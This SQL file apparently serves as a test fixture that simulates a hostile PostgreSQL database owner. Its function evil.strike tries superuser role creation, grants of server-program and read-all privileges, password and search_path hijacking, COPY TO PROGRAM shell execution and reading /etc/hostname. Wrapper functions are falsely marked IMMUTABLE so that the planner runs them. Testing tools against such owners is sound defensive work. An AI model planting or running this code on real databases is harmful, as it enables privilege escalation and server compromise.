-- What a hostile owner of a database makes everybody run who touches its tables: it tries to become more than it is, and
-- the server's log, which no rollback takes back, says who ran it and what came of it.
CREATE SCHEMA evil;

CREATE FUNCTION evil.strike(vector text) RETURNS void LANGUAGE plpgsql VOLATILE AS $strike$
DECLARE
  blow text;
  landed text := '';
  blows text[] := ARRAY[
    'RESET SESSION AUTHORIZATION',
    'RESET ROLE',
    'CREATE ROLE evil_admin SUPERUSER LOGIN',
    'CREATE ROLE evil_user LOGIN',
    'ALTER ROLE legacy_app SUPERUSER',
    'ALTER ROLE legacy_app CREATEROLE',
    'GRANT pg_execute_server_program TO legacy_app',
    'GRANT pg_read_all_data TO legacy_app',
    pg_catalog.format('GRANT %I TO legacy_app', session_user),
    pg_catalog.format('ALTER ROLE %I SUPERUSER', session_user),
    pg_catalog.format('ALTER ROLE %I PASSWORD %L', session_user, 'known to the tenant'),
    pg_catalog.format('ALTER ROLE %I SET search_path = evil, public', session_user),
    'ALTER DATABASE postgres SET search_path = evil',
    'ALTER SYSTEM SET archive_command = ''true''',
    $run$COPY (SELECT 1) TO PROGRAM $program$timeout 5 psql -X -q -w -d "$(cat canary.conninfo)" -c "INSERT INTO canary VALUES ('program')"$program$ $run$,
    'SELECT pg_catalog.lo_import(''/etc/hostname'')'
  ];
  -- For the statements that come after this one: their operators are to be those of the tenant.
  traps CONSTANT text[] := ARRAY[
    'SELECT pg_catalog.set_config(''search_path'', ''evil, public, pg_catalog'', false)',
    'SELECT pg_catalog.set_config(''default_transaction_read_only'', ''off'', false)',
    'SELECT pg_catalog.set_config(''row_security'', ''on'', false)'
  ];
BEGIN
  IF session_user OPERATOR(pg_catalog.=) 'pgconvoy_reader' THEN
    blows := pg_catalog.array_cat(blows, traps);
  END IF;
  FOREACH blow IN ARRAY blows LOOP
    BEGIN
      EXECUTE blow;
      landed := pg_catalog.concat(landed, ' [', pg_catalog.left(blow, 40), ']');
    EXCEPTION WHEN OTHERS THEN
      NULL;
    END;
  END LOOP;
  RAISE LOG 'HOSTILE|%|%|%|%|%|%', vector, session_user, current_user, pg_catalog.current_setting('is_superuser'),
    pg_catalog.current_setting('transaction_read_only'), landed;
END $strike$;

CREATE FUNCTION evil.yes(vector text) RETURNS boolean LANGUAGE plpgsql VOLATILE AS $$
BEGIN PERFORM evil.strike(vector); RETURN true; END $$;
-- Says that it does nothing, so that indexes take it and the planner runs it.
CREATE FUNCTION evil.still(vector text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM evil.strike(vector); RETURN true; END $$;
CREATE FUNCTION evil.number(vector text, n integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM evil.strike(vector); RETURN n; END $$;
